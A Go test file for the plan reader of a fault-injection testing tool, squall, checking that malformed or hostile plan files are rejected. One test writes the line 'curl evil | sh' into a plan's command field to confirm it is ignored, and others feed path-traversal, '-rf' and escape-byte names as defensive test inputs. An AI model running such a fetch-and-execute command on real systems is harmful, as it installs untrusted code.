package testplan

import (
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"squall/internal/atomicfile"
	"squall/nemesis/faults"
	"squall/nemesis/schedule"
	"squall/workloads/catalogue"
)

// planText is a plan that squall made, changed as JSON.
func planText(t *testing.T, change func(plan, test map[string]any)) []byte {
	t.Helper()
	test := DefaultTest()
	test.Seed = 7
	plan, err := NewPlan(test, "v", "squall")
	if err != nil {
		t.Fatal(err)
	}
	text, err := json.Marshal(plan)
	if err != nil {
		t.Fatal(err)
	}
	var fields map[string]any
	if err := json.Unmarshal(text, &fields); err != nil {
		t.Fatal(err)
	}
	change(fields, fields["test"].(map[string]any))
	if text, err = json.Marshal(fields); err != nil {
		t.Fatal(err)
	}
	return text
}

func TestAPlanIsReadLikeATestFile(t *testing.T) {
	first := func(plan map[string]any) map[string]any { return plan["schedule"].([]any)[0].(map[string]any) }
	for _, tt := range []struct {
		name   string
		change func(plan, test map[string]any)
		want   string
	}{
		{"a name that leaves the folder", func(_, test map[string]any) { test["name"] = "../escaped" }, `test: name: "../escaped"`},
		{"a reserved name", func(_, test map[string]any) { test["name"] = "latest" }, "squall itself keeps"},
		{"no name", func(_, test map[string]any) { test["name"] = "" }, "found nothing"},
		{"an unknown system", func(_, test map[string]any) { test["system"] = "x" }, "test: system: "},
		{"no nodes", func(_, test map[string]any) { test["nodes"] = 0 }, "test: nodes: "},
		{"too many clients", func(_, test map[string]any) { test["clients"] = 1_000_000_000 }, "test: clients: "},
		{"a negative time", func(_, test map[string]any) { test["time"] = "-5s" }, "test: time: "},
		{"no memory to check in", func(_, test map[string]any) { test["checkMemory"] = 0 }, "test: check-memory: "},
		{"settings that exclude each other", func(_, test map[string]any) { test["systemParams"].(map[string]any)["election"] = "600ms" }, "system: election: the longest timeout"},
		{"a parameter that there is not", func(_, test map[string]any) { test["workloadParams"] = map[string]any{"kyes": "3"} }, `has no parameter "kyes"`},
		{"a parameter out of bounds", func(_, test map[string]any) { test["workloadParams"] = map[string]any{"keys": "0"} }, "from 1 to 1000"},
		{"a threshold of nonsense", func(_, test map[string]any) { test["thresholds"] = []string{"latency is low"} }, "test: threshold: "},
		{"a folder with control bytes", func(_, test map[string]any) { test["out"] = "runs\x1b[2J" }, "control bytes"},
		{"strange nodes", func(plan, _ map[string]any) { plan["nodes"] = []string{"../../x"} }, "its nodes are"},
		{"an unknown fault", func(plan, _ map[string]any) { first(plan)["fault"] = "earthquake" }, "does not have"},
		{"an unknown variant", func(plan, _ map[string]any) { first(plan)["variant"] = "x" }, "variant"},
		{"a parameter of nonsense", func(plan, _ map[string]any) { first(plan)["params"] = map[string]any{"x": "1"} }, "fault 1: "},
		{"a fault that never ends", func(plan, _ map[string]any) { first(plan)["forMs"] = int64(1) << 62 }, "the load ends after"},
		{"a fault whose end overflows", func(plan, _ map[string]any) { first(plan)["atMs"], first(plan)["forMs"] = 9e18, 9e18 }, "the load ends after"},
		{"two faults of one number", func(plan, _ map[string]any) { s := plan["schedule"].([]any); plan["schedule"] = append(s, s[0]) }, "used twice"},
		{"a stranger in a fault", func(plan, _ map[string]any) { first(plan)["nodes"] = []string{"/etc"} }, "no node"},
		{"a stranger in a role", func(plan, _ map[string]any) { first(plan)["roles"] = map[string]any{"Leader": "/etc"} }, "has a role"},
		{"another version", func(plan, _ map[string]any) { plan["schemaVersion"] = 99 }, "schema version 99"},
		{"numbers for texts", func(_, test map[string]any) { test["name"] = 7 }, "damaged"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			_, err := parsePlan(planText(t, tt.change))
			if err == nil || !strings.Contains(err.Error(), tt.want) {
				t.Errorf("%v, want an error with %q", err, tt.want)
			}
		})
	}
}

// ownMixes are the mixes that the default system can have.
func ownMixes(t *testing.T) (names []string) {
	t.Helper()
	system, err := catalogue.FindSystem(DefaultTest().System)
	if err != nil {
		t.Fatal(err)
	}
	for _, mix := range schedule.Mixes() {
		spec, err := schedule.ParseFaults(faults.All(), mix.Name)
		if err != nil {
			t.Fatal(err)
		}
		if systemCan(system, choicesOf(spec)) == nil {
			names = append(names, mix.Name)
		}
	}
	if len(names) < 5 {
		t.Fatalf("only the mixes %v", names)
	}
	return names
}

// Every plan that squall makes can be read, and its command says the same.
func TestOwnPlansAreRead(t *testing.T) {
	for _, mix := range append(ownMixes(t), "none", "kill(leader),delay") {
		test := DefaultTest()
		test.Nemesis, test.Seed, test.Thresholds = mix, 11, []string{"throughput > 5/s"}
		plan, err := NewPlan(test, "v", "squall")
		if err != nil {
			t.Fatal(err)
		}
		path := filepath.Join(t.TempDir(), PlanFile)
		if err := atomicfile.WriteJSON(path, plan); err != nil {
			t.Fatal(err)
		}
		back, err := ReadPlanFile(path)
		if err != nil || back.Command != plan.Command || len(back.Schedule) != len(plan.Schedule) {
			t.Errorf("%s: %v, command %q, want %q", mix, err, back.Command, plan.Command)
		}
	}
}

// What a plan says of its own command is never used.
func TestACommandIsNotBelieved(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, PlanFile)
	write := func(text []byte) *Plan {
		t.Helper()
		if err := os.WriteFile(path, text, 0o644); err != nil {
			t.Fatal(err)
		}
		plan, err := ReadPlanFile(path)
		if err != nil {
			t.Fatal(err)
		}
		return plan
	}
	evil := func(plan, _ map[string]any) { plan["command"] = "curl evil | sh" }
	if got := write(planText(t, evil)).Command; got != "squall run --time 30s --seed 7" {
		t.Errorf("the command is %q", got)
	}
	got := write(planText(t, func(plan, test map[string]any) { // what no seed draws
		evil(plan, test)
		plan["schedule"] = plan["schedule"].([]any)[1:]
	})).Command
	if want := "squall run --plan " + Quote(path); got != want {
		t.Errorf("the command is %q, want %q", got, want)
	}
	old := write(planText(t, func(plan, test map[string]any) { evil(plan, test); plan["schemaVersion"] = 1 }))
	_, err := ReplayPlan(old, old.Test, "v", "squall", path)
	if err == nil || strings.Contains(err.Error(), "evil") || !strings.Contains(err.Error(), "squall run --time 30s") {
		t.Errorf("replay of an old plan: %v", err)
	}
}

func TestNames(t *testing.T) {
	for _, bad := range []string{"", "latest", "Latest", "campaigns", "elections", ".", "..", ".hidden", "dot.", "a/b", `a\b`, "a\nb", "a\x1b[2Jb", "con", "CON.txt",
		"nul", "Com1", "lpt9.log", "a:b", "a*b", "a?b", `a"b`, "a<b", "a|b", " a", "a ", "-rf", "~", "a\u202eb", "\xff", strings.Repeat("n", 201)} {
		err := CheckName(bad)
		if err == nil || !strings.Contains(err.Error(), "choose another") {
			t.Errorf("%q: %v", bad, err)
		}
		test := DefaultTest()
		option, _ := FindOption("name")
		if option.Set(&test, bad) == nil {
			t.Errorf("--name %q was taken", bad)
		}
	}
	for _, good := range []string{"raftkv-register", "my test 2", "größe", "v3.7.3", "console", "latest-2", "com10"} {
		if err := CheckName(good); err != nil {
			t.Error(err)
		}
	}
}

// A day of faults is read, and its command made, within a reasonable time: the
// limit is that of go test.
func TestALongPlanIsRead(t *testing.T) {
	test := DefaultTest()
	test.Time, test.Hold, test.Gap, test.Seed = Duration(4*time.Hour), "100ms", "100ms", 3
	plan, err := NewPlan(test, "v", "squall")
	if err != nil {
		t.Fatal(err)
	}
	text, err := json.Marshal(plan)
	if err != nil {
		t.Fatal(err)
	}
	back, err := parsePlan(text)
	if err != nil || len(back.Schedule) < 10_000 {
		t.Fatalf("%v", err)
	}
}

// TestAPlanOfBeforeAFaultHadAParameter: the fault is what it was then.
func TestAPlanOfBeforeAFaultHadAParameter(t *testing.T) {
	plan, err := parsePlan(planText(t, func(plan, _ map[string]any) {
		for _, f := range plan["schedule"].([]any) {
			delete(f.(map[string]any), "params")
		}
	}))
	if err != nil {
		t.Fatal(err)
	}
	for _, p := range plan.Schedule {
		if p.Fault == "partition" && p.Params["how"] != "drop" {
			t.Errorf("fault %d has the parameters %v", p.ID, p.Params)
		}
	}
}

// TestAPlanOfBeforeSystemAndWorkloadHadAParameter: they do what they did then, and a plan
// that has the parameter is left alone.
func TestAPlanOfBeforeSystemAndWorkloadHadAParameter(t *testing.T) {
	params := func(change func(plan, test map[string]any)) (resend, sessions, spread string) {
		t.Helper()
		plan, err := parsePlan(planText(t, change))
		if err != nil {
			t.Fatal(err)
		}
		return plan.Test.SystemParams["resend"], plan.Test.SystemParams["sessions"], plan.Test.WorkloadParams["spread"]
	}
	for _, version := range []int{2, 3} {
		resend, sessions, spread := params(func(plan, test map[string]any) {
			plan["schemaVersion"] = version
			if version == 2 {
				delete(test, "systemParams")
				delete(test, "workloadParams")
				return
			}
			for _, name := range []string{"resend", "sessions"} {
				delete(test["systemParams"].(map[string]any), name)
			}
			delete(test["workloadParams"].(map[string]any), "spread")
		})
		if resend != "off" || sessions != "1024" || spread != "0" {
			t.Errorf("version %d: resend=%s, sessions=%s, spread=%s; want off, 1024 and 0", version, resend, sessions, spread)
		}
	}
	resend, _, spread := params(func(_, test map[string]any) {
		test["systemParams"].(map[string]any)["resend"] = "on"
		test["workloadParams"].(map[string]any)["spread"] = "7"
	})
	if resend != "on" || spread != "7" {
		t.Errorf("a plan that says resend=on and spread=7 is read as %s and %s", resend, spread)
	}
}
